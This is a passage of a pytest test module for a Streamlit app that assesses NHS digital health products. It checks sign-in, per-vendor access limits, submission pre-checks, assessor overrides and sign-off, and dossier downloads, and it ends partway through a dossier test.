"""The workbench's pages, in-process with ``streamlit.testing.v1.AppTest``.

Each test runs the real entry point (``streamlit_app.py``: sign-in gate, navigation, sidebar) on a
private copy of a SQLite database seeded with the examples in submissions/, and talks to the same
database through a Workbench of its own to check what the pages stored. Caches are cleared around
every test (streamlit issue #9139: ``st.cache_resource`` leaks between AppTest instances).

What AppTest cannot see (layout, the browser's file delivery, deep links typed into the address bar)
is covered by tests/test_e2e.py in headless Chromium.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from unittest.mock import ANY

import pypdf
import pytest
import streamlit as st  # noqa: TID251 - testing the Streamlit app
import streamlit.testing.v1.app_test as app_test_module  # noqa: TID251 - testing the Streamlit app
from streamlit.runtime.memory_media_file_storage import MemoryMediaFileStorage  # noqa: TID251 - testing the Streamlit app
from streamlit.testing.v1 import AppTest  # noqa: TID251 - testing the Streamlit app
from streamlit.testing.v1.element_tree import DownloadButton  # noqa: TID251 - testing the Streamlit app
from support import EXAMPLES, REPO, free_port, zip_of
from ui_fixtures import ASSESSOR, Seeded

from dtac_app.results import Verification
from dtac_app.store.db import DATA_DIR_ENV, DATABASE_URL_ENV, SQLITE_FILENAME, Database
from dtac_app.store.errors import DATABASE_LOG
from dtac_app.store.views import UserView
from dtac_app.ui import session
from dtac_app.workbench.facade import SYSTEM, Workbench

APP = str(REPO / "streamlit_app.py")
PAGES = "dtac_app/ui/pages/"
TIMEOUT = 30

# The examples this module leans on (see submissions/README.md).
CLEAN = "SlotHarbour"  # available, no conditions
FAILING = "Ledgerbrook Care Notes"  # not available: C3.1 (Cyber Essentials) not met
OTHER = "Backfell Physio"  # another vendor's product


# ---------------------------------------------------------------------------------- fixtures


class RecordingMediaStorage(MemoryMediaFileStorage):
    """AppTest's in-memory media store, remembering every file so a test can read a download's bytes
    (AppTest drops its store after each run)."""

    files: dict[str, bytes] = {}

    def load_and_get_id(
        self, path_or_data: str | bytes, mimetype: str, kind: Any, filename: str | None = None
    ) -> str:
        file_id = super().load_and_get_id(path_or_data, mimetype, kind, filename)
        RecordingMediaStorage.files[file_id] = self._files_by_id[file_id].content
        return file_id


def download_bytes(button: DownloadButton) -> bytes:
    """The bytes a download button would deliver."""
    url = button.proto.url
    assert url, f"download button {button.label!r} has no file"
    file_id = Path(url).name.split(".", 1)[0]
    return RecordingMediaStorage.files[file_id]


class App:
    """Builds AppTests for one seeded database and checks it through a Workbench of its own."""

    def __init__(self, seeded: Seeded, data_dir: Path) -> None:
        self.seeded = seeded
        self.db = Database(f"sqlite:///{data_dir / SQLITE_FILENAME}")
        self.wf = Workbench(self.db)

    def user(self, username: str) -> UserView:
        return self.wf.get_user(SYSTEM, username)

    def vendor_of(self, product: str) -> UserView:
        return self.user(self.seeded.product(product).vendor)

    def open(
        self,
        page: str | None = None,
        *,
        as_user: str | UserView | None = None,
        query: dict[str, str] | None = None,
    ) -> AppTest:
        """The app, signed in as ``as_user`` (or not), run once on ``page`` (file name under dtac_app/ui/pages)."""
        at = AppTest.from_file(APP, default_timeout=TIMEOUT)
        if as_user is not None:
            at.session_state[session.USER_KEY] = self.user(as_user) if isinstance(as_user, str) else as_user
        if query:
            at.query_params.update(query)
        at.run()
        if page is not None:
            at.switch_page(PAGES + page).run()
        assert not at.exception, [e.value for e in at.exception]
        return at


@pytest.fixture
def app(
    seeded_template: Seeded, seeded_dir: Path, monkeypatch: pytest.MonkeyPatch, cheap_hashing: None
) -> Iterator[App]:
    """The app on a private seeded database; caches cleared before and after; engines disposed."""
    monkeypatch.setenv(DATA_DIR_ENV, str(seeded_dir))
    monkeypatch.delenv(DATABASE_URL_ENV, raising=False)
    monkeypatch.delenv("DTAC_DEMO_HINT", raising=False)
    opened: list[Workbench] = []
    real_open = session.open_workbench

    def recording_open(*a: Any, **kw: Any) -> Workbench:
        wf = real_open(*a, **kw)
        opened.append(wf)
        return wf

    monkeypatch.setattr(session, "open_workbench", recording_open)
    monkeypatch.setattr(app_test_module, "MemoryMediaFileStorage", RecordingMediaStorage)
    RecordingMediaStorage.files = {}
    st.cache_resource.clear()
    st.cache_data.clear()
    a = App(seeded_template, seeded_dir)
    try:
        yield a
    finally:
        st.cache_resource.clear()
        st.cache_data.clear()
        for wf in opened:
            wf.db.dispose()
        a.db.dispose()


def texts(elements: Any) -> str:
    """Every value of an element list, joined (for `in` checks)."""
    return "\n".join(str(e.value) for e in elements)


def html_text(at: AppTest) -> str:
    return "\n".join(str(getattr(e.proto, "body", "")) for e in at.get("html"))


def table(at: AppTest, *columns: str) -> Any:
    """The first table (as a pandas DataFrame) having these columns. Read-only tables carry no key in
    AppTest (only selectable ones do), so they are found by their columns."""
    for d in at.dataframe:
        df = d.value
        if all(c in df.columns for c in columns):
            return df
    raise AssertionError(
        f"no table with columns {columns}; tables: {[list(d.value.columns) for d in at.dataframe]}"
    )


def all_text(at: AppTest) -> str:
    parts = [
        texts(at.title),
        texts(at.header),
        texts(at.subheader),
        texts(at.markdown),
        texts(at.caption),
        texts(at.error),
        texts(at.warning),
        texts(at.info),
        texts(at.success),
        html_text(at),
    ]
    return "\n".join(parts)


# ---------------------------------------------------------------------------------- sign in


def sign_in(at: AppTest, username: str, password: str) -> AppTest:
    at.text_input(key="si_user").input(username)
    at.text_input(key="si_pass").input(password)
    at.button(key="FormSubmitter:sign_in-Sign in").click().run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_sign_in_with_a_wrong_password_says_so_and_stays_signed_out(app: App) -> None:
    at = app.open()
    assert "Sign in" in texts(at.subheader)
    sign_in(at, ASSESSOR[0], "not-the-password")
    assert "The user name or password is not right" in texts(at.error)
    assert session.USER_KEY not in at.session_state
    assert not at.sidebar.button, "no sidebar (and no sign-out) before signing in"
    # An empty form is refused before the database is asked.
    sign_in(at, "", "")
    assert "Enter your user name and password." in texts(at.error)
    failures = app.wf.audit_trail(SYSTEM, action="login.failure")
    assert len(failures) == 1


def test_sign_in_opens_the_portfolio_and_sign_out_returns_to_the_form(app: App) -> None:
    at = sign_in(app.open(), *ASSESSOR)
    assert texts(at.title) == "Portfolio"
    assert at.session_state[session.USER_KEY].username == "assessor"
    assert "Example assessor" in texts(at.sidebar.markdown)
    at.sidebar.button(key="sign_out").click().run()
    assert session.USER_KEY not in at.session_state
    assert "Sign in" in texts(at.subheader)


def test_a_deep_link_asks_for_sign_in_then_shows_the_page(app: App) -> None:
    other = app.seeded.product(OTHER)
    at = app.open("review.py", query={"product": str(other.id)})
    assert "Sign in" in texts(at.subheader)
    assert other.name not in all_text(at)
    sign_in(at, *ASSESSOR)
    assert texts(at.title) == "Assessment"
    assert f"{other.name} {other.version}" in texts(at.header)


def test_users_page_is_for_admins_only(app: App) -> None:
    at = app.open(as_user="assessor")
    # Not in an assessor's navigation at all…
    with pytest.raises(ValueError, match="Could not find a navigation page"):
        at.switch_page(PAGES + "users.py")
    # …and the page refuses by itself if it is ever reached.
    page = AppTest.from_file(str(REPO / PAGES / "users.py"), default_timeout=TIMEOUT)
    page.session_state[session.USER_KEY] = app.user("assessor")
    page.run()
    assert "Only administrators can manage users." in texts(page.error)
    assert not page.dataframe


# ---------------------------------------------------------------------------------- pre-check


def upload(at: AppTest, path: Path, name: str | None = None, data: bytes | None = None) -> AppTest:
    at.file_uploader(key="pc_upload").set_value(
        (name or path.name, data if data is not None else path.read_bytes(), "application/x-yaml")
    )
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_precheck_upload_shows_the_decision_and_offers_downloads(app: App) -> None:
    vendor = app.vendor_of(CLEAN)
    at = app.open("precheck.py", as_user=vendor)
    assert texts(at.title) == "Pre-check a submission"
    upload(at, EXAMPLES / "slotharbour.yaml", "slotharbour.zip", zip_of(EXAMPLES / "slotharbour.yaml"))
    assert "SlotHarbour 3.2" in texts(at.header)
    assert "Available for NHS use" in html_text(at)
    assert not at.warning  # every document arrived
    # The assessment JSON download holds the same decision.
    dl = at.download_button(key="pc_dl_json")
    assessment = json.loads(download_bytes(dl))
    assert assessment["decision"] == "available"
    assert dl.proto.ignore_rerun
    # An upload is not a form: no YAML/ZIP re-download of what the vendor already has.
    assert [b.key for b in at.download_button] == ["pc_dl_json"]


def test_precheck_of_a_yaml_without_its_files_is_never_available(app: App) -> None:
    """The same file without its evidence: every document is asserted and the decision incomplete."""
    at = app.open("precheck.py", as_user=app.vendor_of(CLEAN))
    upload(at, EXAMPLES / "slotharbour.yaml")
    assert "Incomplete" in html_text(at) and "Available for NHS use" not in html_text(at)
    assert "arrived without their file" in at.warning[0].value


def test_precheck_upload_of_a_failing_submission_lists_the_fixes(app: App) -> None:
    at = app.open("precheck.py", as_user=app.vendor_of(FAILING))
    upload(at, EXAMPLES / "ledgerbrook-v1.yaml")
    assert "Not available" in html_text(at)
    fixes = table(at, "Do this", "Effect", "Rule")
    assert len(fixes) >= 1
    assert "C3.1" in set(fixes["Rule"])
    assert "What would change it" in texts(at.subheader)


def test_precheck_upload_of_a_broken_file_explains_the_problem(app: App) -> None:
    at = app.open("precheck.py", as_user="assessor")
    upload(
        at,
        EXAMPLES / "slotharbour.yaml",
        name="broken.yaml",
        data=b"schema: dtac-submission/1\nproduct: [1, 2\n",
    )
    assert "broken.yaml" in texts(at.error)
    assert "cannot be assessed yet" in texts(at.error)
    assert not at.download_button


def test_precheck_send_for_assessment_files_it_under_the_vendor(app: App) -> None:
    vendor = app.vendor_of(CLEAN)
    text = (EXAMPLES / "slotharbour.yaml").read_text().replace('version: "3.2"', 'version: "3.3"')
    at = app.open("precheck.py", as_user=vendor)
    upload(at, EXAMPLES / "slotharbour.yaml", name="slotharbour-3.3.yaml", data=text.encode())
    at.text_input(key="pc_comment").input("New version with the same evidence")
    at.button(key="pc_send").click().run()
    assert "Sent. SlotHarbour 3.3" in texts(at.success)
    versions = [v.version for v in app.wf.get_product(vendor, app.seeded.product(CLEAN).id).version_details]
    assert "3.3" in versions


def test_precheck_send_shows_a_reference_never_the_sql_when_the_database_fails(
    app: App, caplog: pytest.LogCaptureFixture
) -> None:
    """A fault the workbench cannot check for (here a trigger makes the database refuse new
    products): the page shows a generic message with a reference; the SQL is only in the log."""
    with app.db.engine.begin() as c:
        c.exec_driver_sql(
            "CREATE TRIGGER no_products BEFORE INSERT ON products "
            "BEGIN SELECT RAISE(ABORT, 'products are closed'); END"
        )
    caplog.set_level(logging.ERROR, logger=DATABASE_LOG)
    text = (EXAMPLES / "slotharbour.yaml").read_text().replace("name: SlotHarbour", "name: SlotHarbour Lite")
    at = app.open("precheck.py", as_user="assessor")
    upload(at, EXAMPLES / "slotharbour.yaml", name="lite.yaml", data=text.encode())
    at.button(key="pc_send").click().run()
    assert not at.exception, [e.value for e in at.exception]
    error = texts(at.error)
    ref = re.search(r"reference ([0-9A-F]{8})", error)
    assert ref, error
    shown = all_text(at)
    for leak in ("INSERT", "SQL", "products are closed", "IntegrityError", "Traceback", "sqlite"):
        assert leak not in shown
    assert ref.group(1) in caplog.text and "INSERT INTO products" in caplog.text
    assert "SlotHarbour Lite" not in {p.name for p in app.wf.list_products(SYSTEM)}


def test_an_unreachable_database_shows_a_reference_not_its_address(
    app: App, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(DATABASE_URL_ENV, f"postgresql://dtac:s3cret@127.0.0.1:{free_port()}/nowhere")
    at = AppTest.from_file(APP, default_timeout=TIMEOUT)
    at.session_state[session.USER_KEY] = app.user("assessor")
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    assert re.search(r"reference [0-9A-F]{8}", texts(at.error)), texts(at.error)
    shown = all_text(at)
    for leak in ("127.0.0.1", "nowhere", "s3cret", "OperationalError", "connection"):
        assert leak not in shown


def question_ids(at: AppTest) -> set[str]:
    """The DTAC questions on the on-screen form (their widgets' keys are pc_q_<id with dashes>)."""
    out = set()
    for w in [*at.radio, *at.text_area, *at.text_input]:
        if w.key and w.key.startswith("pc_q_"):
            out.add(w.key.removeprefix("pc_q_").replace("-", "."))
    return out


def test_precheck_form_follows_the_routing(app: App) -> None:
    at = app.open("precheck.py", as_user=app.vendor_of(CLEAN))
    at.button_group(key="pc_mode").set_value("Fill in the form").run()
    assert not at.file_uploader
    shown = question_ids(at)
    assert "C1.1.1" in shown
    assert "C1.2" not in shown, "C1.2 waits for C1.1.1"
    # A blank form is not an error: it says what is needed for a verdict.
    assert not at.error
    assert "Fill in the product name, product version and manufacturer" in texts(at.info)
    at.radio(key="pc_q_C1-1-1").set_value("No").run()
    assert "C1.2" in question_ids(at)
    at.radio(key="pc_q_C1-2").set_value("No").run()
    shown = question_ids(at)
    assert "C1.2.1" in shown
    assert not {"C1.2.2", "C1.2.3", "C1.2.4"} & shown
    at.radio(key="pc_q_C1-2").set_value("Yes").run()
    shown = question_ids(at)
    assert "C1.2.2" in shown
    assert "C1.2.1" not in shown
    # The half-filled form already gets a verdict, and the typed answers can be downloaded.
    at.text_input(key="pc_p_name").input("Formapp")
    at.text_input(key="pc_p_version").input("0.1")
    at.text_input(key="pc_p_manufacturer").input("Form Ltd")
    at.run()
    assert not at.exception
    assert "Incomplete" in html_text(at) or "Not available" in html_text(at)
    yaml_text = download_bytes(at.download_button(key="pc_dl_yaml")).decode()
    assert "name: Formapp" in yaml_text
    assert "C1.2: 'Yes'" in yaml_text or 'C1.2: "Yes"' in yaml_text or "C1.2: Yes" in yaml_text
    import zipfile

    zf = zipfile.ZipFile(io.BytesIO(download_bytes(at.download_button(key="pc_dl_zip"))))
    assert zf.namelist() == ["submission.yaml"]


def import_form_upload(at: AppTest, name: str, data: bytes) -> AppTest:
    at.button_group(key="pc_mode").set_value("Import a completed DTAC form").run()
    at.file_uploader(key="pc_form_upload").set_value((name, data, "application/octet-stream"))
    at.run()
    assert not at.exception, [e.value for e in at.exception]
    return at


def test_precheck_imports_a_word_form_into_the_on_screen_form(app: App, tmp_path: Path) -> None:
    from form_fixtures import v2_messy_docx

    form = tmp_path / "spinewise-dtac.docx"
    expected, unresolved = v2_messy_docx(form)
    at = app.open("precheck.py", as_user=app.vendor_of(CLEAN))
    import_form_upload(at, form.name, form.read_bytes())
    # The page is now the on-screen form, pre-filled with what was read with confidence.
    assert at.button_group(key="pc_mode").value == "Fill in the form"
    assert at.text_input(key="pc_p_name").value == "Spinewise"
    assert at.text_input(key="pc_p_manufacturer").value == "Lumbar Labs Ltd"
    assert at.radio(key="pc_q_C1-2").value == "Yes"
    assert at.radio(key="pc_q_D1-4-1").value == "No, but a plan and timeline exists"
    assert at.text_input(key="pc_ev_C3-1_cyber_essentials_ref").value == "IASME-CE-000123"
    # The unresolved questions are listed, left empty and highlighted with the vendor's words as text.
    listed = table(at, "Question", "The form says", "Could be")
    assert set(listed["Question"]) == unresolved
    for qid in unresolved:
        assert at.radio(key="pc_q_" + qid.replace(".", "-")).value is None
        assert f"{qid} could not be read from the imported form" in texts(at.warning)
    assert "The form says: We log everything centrally" in texts(at.text)
    # The submission built from the form carries the asserted evidence's source sentence.
    yaml_text = download_bytes(at.download_button(key="pc_dl_yaml")).decode()
    assert "Asserted in the DTAC form" in yaml_text and "IASME-CE-000123" in yaml_text
    assert "Spinewise 3.2.0" in texts(at.header)


def test_precheck_import_of_a_bad_form_says_why_and_changes_nothing(app: App) -> None:
    at = app.open("precheck.py", as_user=app.vendor_of(CLEAN))
    import_form_upload(at, "form.docx", b"this is not a Word document")
    assert "cannot be imported" in texts(at.error)
    assert "not a Word .docx document" in texts(at.text)
    assert at.button_group(key="pc_mode").value == "Import a completed DTAC form"


# ---------------------------------------------------------------------------------- portfolio


def test_portfolio_shows_a_vendor_only_its_own_products(app: App) -> None:
    own = app.seeded.product(CLEAN)
    at = app.open(as_user=app.vendor_of(CLEAN))
    assert texts(at.title) == "Portfolio"
    rows = table(at, "Product", "Decision", "C1", "D1 %")
    assert list(rows["Product"]) == [own.name]
    assert list(rows["Manufacturer"]) == [own.organisation]
    assert OTHER not in all_text(at)


def test_portfolio_shows_an_assessor_every_product_and_filters(app: App) -> None:
    at = app.open(as_user="assessor")
    rows = table(at, "Product", "Decision")
    assert sorted(rows["Product"]) == sorted(p.name for p in app.seeded.products)
    # One metric per decision, counting the products.
    metrics = {m.label: int(m.value) for m in at.metric}
    assert sum(metrics.values()) == len(app.seeded.products)
    assert metrics["Not available"] == sum(p.decision == "not_available" for p in app.seeded.products)
    at.multiselect(key="pf_decision").set_value(["Available for NHS use"]).run()
    rows = table(at, "Product", "Decision")
    assert list(rows["Product"]) == [p.name for p in app.seeded.products if p.decision == "available"]
    at.multiselect(key="pf_decision").set_value([]).run()
    at.text_input(key="pf_text").input("harbour").run()
    assert set(table(at, "Product")["Product"]) == {
        p.name for p in app.seeded.products if "harbour" in f"{p.name} {p.organisation}".lower()
    }
    assert "NG59 content" in table(at, "Product", "Self-referral safeguards").columns, (
        "the gate matrix is drawn"
    )


def test_the_comparison_shows_back_pain_and_dtac_only_products_gate_by_gate(app: App) -> None:
    at = app.open(as_user="assessor")
    gates = table(at, "Product", "Fit", "NICE HTE16 status", "Self-referral safeguards")
    by_product = {row["Product"]: row for _, row in gates.iterrows()}
    assert len(by_product) == len(app.seeded.products)  # DTAC-only products stay in view
    spine = next(v for k, v in by_product.items() if k.startswith("SpineWren"))
    slot = next(v for k, v in by_product.items() if k.startswith("SlotHarbour"))
    tensora = next(v for k, v in by_product.items() if k.startswith("Tensora"))
    assert spine["Population 16+"] == "Pass" and spine["NICE HTE16 status"] == "Condition"
    assert spine["Fit"] == "Acute, 3 months+"
    assert slot["NG59 content"] == "Not applicable" and slot["C3"] == "Pass"
    assert tensora["NG59 content"] == "Fail"  # offers TENS: sections met, yet not available
    assert tensora["C1"] == "Pass" and list(tensora["Decision"]) == ["Not available"]
    # Decision and valid-until come before the section columns in the portfolio table too.
    cols = list(table(at, "Product", "Review").columns)
    assert cols.index("Decision") < cols.index("Valid until") < cols.index("Next expiry") < cols.index("C1")
    feats = table(at, "Product", "Guided exercise with video demonstrations")
    assert not any(p.startswith("SlotHarbour") for p in feats["Product"])  # features: back-pain apps only
    assert bool(feats.set_index("Product").loc[spine["Product"], "Digital triage that allows self-referral"])
    # Filters: fit (long-lasting pain) keeps only back-pain products that state it.
    at.multiselect(key="pf_fit").set_value(["chronic"]).run()
    products = list(table(at, "Product", "Fit")["Product"])
    assert products and all("3 months+" in f for f in table(at, "Product", "Fit")["Fit"]), products
    at.multiselect(key="pf_fit").set_value([]).run()
    at.multiselect(key="pf_profile").set_value(["dtac"]).run()
    assert set(table(at, "Product", "Fit")["Fit"]) == {"—"}
    at.selectbox(key="pf_why").set_value(next(iter(table(at, "Product", "Fit")["Product"]))).run()
    assert "Detail" in table(at, "Gate", "State").columns


# ---------------------------------------------------------------------------------- review


def open_review(app: App, product: str, as_user: str | UserView = "assessor") -> tuple[AppTest, str]:
    p = app.seeded.product(product)
    at = app.open("review.py", as_user=as_user, query={"product": str(p.id)})
    assert f"{p.name} {p.version}" in texts(at.header)
    return at, f"rv_{p.assessment_id}_{app.wf.get_assessment(SYSTEM, p.assessment_id).revision}"


def test_review_override_needs_a_rationale_then_saves_a_new_revision(app: App) -> None:
    p = app.seeded.product(FAILING)
    at, key = open_review(app, FAILING)
    assert "Not available" in html_text(at)
    save = at.button(key=f"{key}_save")
    assert save.disabled, "nothing to save yet"
    # Without a rationale: refused on screen, and not saveable.
    at.selectbox(key=f"{key}_C3.1_ovsel").set_value("pass").run()
    assert "Write a rationale of at least 10 characters" in texts(at.error)
    assert at.button(key=f"{key}_save").disabled
    # Another change makes the review saveable, but not while an override lacks its rationale.
    at.checkbox(key=f"{key}_C3.1_vchk").check()
    at.text_input(key=f"{key}_C3.1_vwhat").input("NCSC Cyber Essentials register").run()
    at.button(key=f"{key}_save").click().run()
    assert "Some overrides have no rationale; fix them first." in texts(at.error)
    assert app.wf.get_assessment(SYSTEM, p.assessment_id).revision == 1
    # With a rationale: saved as revision 2 and the decision moves.
    at.text_area(key=f"{key}_C3.1_ovwhy").input(
        "Certificate seen on the NCSC register, number checked by phone."
    ).run()
    assert "Write a rationale" not in texts(at.error)
    assert "Unsaved changes." in texts(at.caption)
    at.text_input(key=f"{key}_comment").input("C3.1 checked")
    at.button(key=f"{key}_save").click().run()
    assert not at.exception
    view = app.wf.get_assessment(SYSTEM, p.assessment_id)
    assert view.revision == 2
    assert view.overrides["C3.1"].outcome == "pass"
    assert view.verifications["C3.1"].checked == "NCSC Cyber Essentials register"
    assert view.result.decision != "not_available"
    assert view.result.decision_label in html_text(at)
    assert "revision 2 of 2" in texts(at.caption)
    # Nothing is pending after the save, and the assessment picker names the new decision.
    key2 = f"rv_{p.assessment_id}_2"
    assert at.button(key=f"{key2}_save").disabled
    assert "Unsaved changes." not in texts(at.caption)
    picker = next(s for s in at.selectbox if s.label == "Assessment")
    assert picker.options == [
        f"Version {p.version} · ledgerbrook-v1.yaml · assessment #{p.assessment_id} as of "
        f"{app.seeded.as_of} · {view.result.decision_label}"
    ]
    assert at.query_params["assessment"] == str(p.assessment_id)
    assert [t.value for t in at.toast] == [f"Saved revision 2: {view.result.decision_label}"]
    # The history tab shows both revisions and the audit entry.
    at.button_group(key=f"rv_tab_{p.assessment_id}").set_value("History").run()
    revs = table(at, "Revision", "Decision", "Overrides")
    assert sorted(revs["Revision"]) == [1, 2]
    audit = table(at, "When", "Who", "What")
    assert "assessment.save" in set(audit["What"])


def test_review_an_abandoned_override_does_not_block_saving(app: App) -> None:
    p = app.seeded.product(FAILING)
    at, key = open_review(app, FAILING)
    at.selectbox(key=f"{key}_C3.1_ovsel").set_value("pass").run()
    assert "Write a rationale" in texts(at.error)
    at.selectbox(key=f"{key}_C3.1_ovsel").set_value("(no override)").run()
    assert not at.error
    at.checkbox(key=f"{key}_C3.1_vchk").check().run()
    assert "Say what you checked" in texts(at.error)
    at.text_input(key=f"{key}_C3.1_vwhat").input("NCSC register").run()
    at.button(key=f"{key}_save").click().run()
    assert not at.error
    view = app.wf.get_assessment(SYSTEM, p.assessment_id)
    assert view.revision == 2
    assert not view.overrides
    assert view.verifications["C3.1"].checked == "NCSC register"


def test_review_save_conflict_shows_both_and_discarding_drops_only_mine(app: App) -> None:
    """Another assessor saved first: my unsaved edits are shown, not silently dropped; discard is explicit."""
    p = app.seeded.product(FAILING)
    at, key = open_review(app, FAILING)
    at.selectbox(key=f"{key}_C3.1_ovsel").set_value("pass")
    at.text_area(key=f"{key}_C3.1_ovwhy").input("Mine: certificate seen on the register today.").run()
    assert "Unsaved changes." in texts(at.caption)
    other = app.wf.get_assessment(SYSTEM, p.assessment_id)
    app.wf.save_review(
        app.user("admin"),
        p.assessment_id,
        1,
        overrides={},
        verifications={"C1.1": Verification(checked="Theirs: DCB0129 file read", by="admin")},
    )
    at.button(key=f"{key}_save").click().run()
    assert not at.exception
    assert "while you were editing revision 1" in texts(at.error)
    assert "Mine: certificate seen on the register today." in texts(at.text)
    assert "Theirs: DCB0129 file read" in texts(at.text)
    assert app.wf.get_assessment(SYSTEM, p.assessment_id).revision == 2 == other.revision + 1
    at.button(key=f"rv_cf_discard_{p.assessment_id}").click().run()
    assert "while you were editing" not in texts(at.error)
    key2 = f"rv_{p.assessment_id}_2"
    assert at.button(key=f"{key2}_save").disabled, "discarded: nothing pending on revision 2"
    assert app.wf.get_assessment(SYSTEM, p.assessment_id).revision == 2


def test_review_sign_off_sections_then_the_whole_assessment(app: App) -> None:
    p = app.seeded.product(CLEAN)
    at, key = open_review(app, CLEAN)
    assert "No question needs attention" in texts(at.caption)
    at.button_group(key=f"{key}_filter").set_value("All asked").run()
    assert "No question needs attention" not in texts(at.caption)
    assert [e for e in at.expander if e.label.startswith("C1.2 ")]
    at.button_group(key=f"rv_tab_{p.assessment_id}").set_value("Sign-off").run()
    view = app.wf.get_assessment(SYSTEM, p.assessment_id)
    sk = f"{p.assessment_id}_{view.revision}"
    assert f"so_all_{sk}" not in [b.key for b in at.button], "no whole sign-off before every section"
    for sec in view.sections_to_sign:
        assert at.selectbox(key=f"so_sec_{sk}").value == sec
        at.button(key=f"so_btn_{sk}").click().run()
        assert not at.exception
    assert table(at, "Section", "Signed off by")["Signed off by"].tolist() == ["Example assessor"] * len(
        view.sections_to_sign
    )
    at.text_input(key=f"so_note_{sk}").input("All sections checked")
    at.text_input(key=f"so_role_{sk}").input("Clinical safety officer")
    at.text_input(key=f"so_org_{sk}").input("Example ICB").run()
    # The confirmation states the decision; nothing is signed until it is ticked.
    assert f"The decision you are signing off: {view.result.decision_label}" in texts(at.info)
    assert at.button(key=f"so_all_{sk}").disabled
    at.checkbox(key=f"so_confirm_{sk}").check().run()
    at.button(key=f"so_all_{sk}").click().run()
    assert not at.exception
    assert f"Revision {view.revision} is signed off: {view.result.decision_label}." in texts(at.success)
    assert "Signed off by Example assessor, Clinical safety officer, Example ICB" in texts(at.text)
    view = app.wf.get_assessment(SYSTEM, p.assessment_id)
    assert view.signed_off is not None and view.status == "signed_off"
    assert (view.signed_off.role, view.signed_off.organisation) == ("Clinical safety officer", "Example ICB")
    assert "Signed off" in texts(at.caption)


def test_review_clarification_request_reply_and_close(app: App) -> None:
    p = app.seeded.product(FAILING)
    at, _ = open_review(app, FAILING)
    tab = f"rv_tab_{p.assessment_id}"
    at.button_group(key=tab).set_value("Clarifications").run()
    assert "No clarification requests." in texts(at.caption)
    # An empty request is refused.
    at.button(key=f"FormSubmitter:cl_new_{p.assessment_id}-Send request").click().run()
    assert "Write the question for the vendor." in texts(at.error)
    at.selectbox(key=f"cl_q_{p.assessment_id}").set_value("C3.1")
    at.text_area(key=f"cl_text_{p.assessment_id}").input("Please send the Cyber Essentials certificate.")
    at.button(key=f"FormSubmitter:cl_new_{p.assessment_id}-Send request").click().run()
    (c,) = app.wf.list_clarifications(SYSTEM, p.assessment_id)
    assert c.question_id == "C3.1" and c.status == "open"
    assert "Please send the Cyber Essentials certificate." in texts(at.text)

    # The vendor sees it, the open count, and replies; it cannot close it.
    vat, _ = open_review(app, FAILING, as_user=app.vendor_of(FAILING))
    assert "1 clarification request(s) open." in texts(vat.warning)
    vat.button_group(key=tab).set_value("Clarifications").run()
    assert not [b for b in vat.button if b.key == f"cl_close_{c.id}"]
    assert not [b for b in vat.button if (b.key or "").startswith("FormSubmitter:cl_new")]
    assert vat.button(key=f"cl_send_{c.id}").disabled
    vat.text_area(key=f"cl_reply_{c.id}").input("Attached: CE certificate 2026.").run()
    vat.button(key=f"cl_send_{c.id}").click().run()
    assert "Attached: CE certificate 2026." in texts(vat.text)
    (c,) = app.wf.list_clarifications(SYSTEM, p.assessment_id)
    assert [r.text for r in c.replies] == ["Attached: CE certificate 2026."]

    # The assessor closes it.
    at.run()
    at.button(key=f"cl_close_{c.id}").click().run()
    (c,) = app.wf.list_clarifications(SYSTEM, p.assessment_id)
    assert c.status == "closed"
    assert "closed" in texts(at.markdown)


def test_review_is_read_only_for_the_vendor(app: App) -> None:
    at, key = open_review(app, FAILING, as_user=app.vendor_of(FAILING))
    assert not [w for w in at.selectbox if (w.key or "").endswith("_ovsel")]
    assert not [b for b in at.button if b.key == f"{key}_save"]
    at.button_group(key=f"rv_tab_{app.seeded.product(FAILING).assessment_id}").set_value("Sign-off").run()
    assert not [b for b in at.button if (b.key or "").startswith("so_")]


def test_a_vendor_cannot_open_another_vendors_product_by_query(app: App) -> None:
    own, other = app.seeded.product(CLEAN), app.seeded.product(OTHER)
    vendor = app.vendor_of(CLEAN)
    for page, query in (
        ("review.py", {"product": str(other.id)}),
        ("review.py", {"product": str(own.id), "assessment": str(other.assessment_id)}),
        ("dossier.py", {"assessment": str(other.assessment_id)}),
    ):
        at = app.open(page, as_user=vendor, query=query)
        shown = all_text(at) + texts(at.selectbox) + texts(at.text)
        assert other.name not in shown, (page, query)
        assert other.organisation not in shown, (page, query)
        if "product" in query and query["product"] == str(other.id) or page == "dossier.py":
            assert "You do not have access to this" in texts(at.error), (page, query)
        assert not at.download_button


# ---------------------------------------------------------------------------------- dossier


def test_dossier_build_then_download_every_format(app: App) -> None:
    p = app.seeded.product(CLEAN)
    at = app.open("dossier.py", as_user=app.vendor_of(CLEAN), query={"assessment": str(p.assessment_id)})
    assert at.selectbox(key="ds_pick").value == p.assessment_id
    assert not at.download_button, "nothing to download before building"
    at.button(key="ds_build").click().run()
    assert not at.exception
    assert "Built PDF, HTML, JSON, CSV for revision 1." in texts(at.success)
    buttons = {b.key: b for b in at.download_button}
    assert set(buttons) == {"ds_dl_pdf", "ds_dl_html", "ds_dl_json", "ds_dl_csv"}
    pdf = download_bytes(buttons["ds_dl_pdf"])
    assert pdf.startswith(b"%PDF")
    pages = [page.extract_text() for page in pypdf.PdfReader(io.BytesIO(pdf)).pages]
    text = "\n".join(pages)
    assert "Available for NHS use" in text
    assert "SlotHarbour" in text
    assert all("DRAFT — not signed off" in t for t in pages), "an unsigned dossier says so on every page"
    dossier = json.loads(download_bytes(buttons["ds_dl_json"]))
    assert "available" in json.dumps(dossier)
    assert download_bytes(buttons["ds_dl_csv"]).decode().count("\n") > 10
    assert b"<html" in download_bytes(buttons["ds_dl_html"]).lower()
    # Downloading does not rerun the app (nor rebuild anything).
    assert all(b.proto.ignore_rerun for b in buttons.values())


def test_dossier_formats_can_be_narrowed(app: App) -> None:
    at = app.open("dossier.py", as_user="assessor")
    at.button_group[0].set_value(["json"]).run()
    at.button(key="ds_build").click().run()
    assert [b.key for b in at.download_button] == ["ds_dl_json"]
    at.button_group[0].set_value([]).run()
    assert at.button(key="ds_build").disabled


def test_dossier_reflects_the_sign_off(app: App) -> None:
    p = app.seeded.product(CLEAN)
    assessor = app.user("assessor")
    view = app.wf.get_assessment(assessor, p.assessment_id)
    for sec in view.sections_to_sign:
